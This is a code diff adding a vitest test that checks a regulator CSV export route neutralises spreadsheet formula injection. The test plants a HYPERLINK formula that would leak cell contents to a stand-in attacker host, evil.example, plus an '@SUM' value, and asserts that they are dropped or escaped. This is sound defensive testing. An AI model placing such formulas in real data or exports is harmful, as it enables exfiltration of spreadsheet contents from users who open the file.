@@ -1,8 +1,8 @@
 import { eq } from "drizzle-orm";
 import { beforeAll, describe, expect, it } from "vitest";
 import { db } from "@/db";
-import { applications, pilotTargets } from "@/db/schema";
-import { ForbiddenError } from "@/lib/actions/errors";
+import { applications, organizations, pilotTargets } from "@/db/schema";
+import { ForbiddenError } from "@/lib/errors";
 import { createPilotTargetAction } from "@/lib/actions/regulator/create-pilot-target";
 import { getCurrentUser, type CurrentUser } from "@/lib/auth/current-user";
 import { pilotDashboard, pilotTargetsProgress } from "@/lib/dal/regulator-overview";
@@ -94,6 +94,18 @@ describe("CSV export route", () => {
     expect(text).toContain("filter,category,,laptop");
     expect(text).toContain("certificates,total,,2");
     expect(text).not.toContain("cement");
+  });
+
+  it("writes no formula: a reflected filter is dropped, a stored name is escaped (issue 11, defect 12)", async () => {
+    await db.update(organizations).set({ nameEn: '=HYPERLINK("http://evil.example/?leak="&A1,"Body")' }).where(eq(organizations.id, north.body.id));
+    actAs(north.regulator);
+    const response = await exportCsv(request(`?category=${encodeURIComponent('=HYPERLINK("http://evil.example","x")')}&district=${encodeURIComponent("@SUM(1)")}`));
+    expect(response.status).toBe(200);
+    const text = await response.text();
+    expect(text).toContain("filter,category,,\r\n");
+    expect(text).not.toContain("evil.example\",\"x");
+    expect(text).toContain(`verification_body,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Body"")",applications`);
+    for (const cell of text.split(/\r\n/).flatMap((line) => line.split(","))) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
   });
 
   it("refuses the anonymous, enterprises and verifiers", async () => {
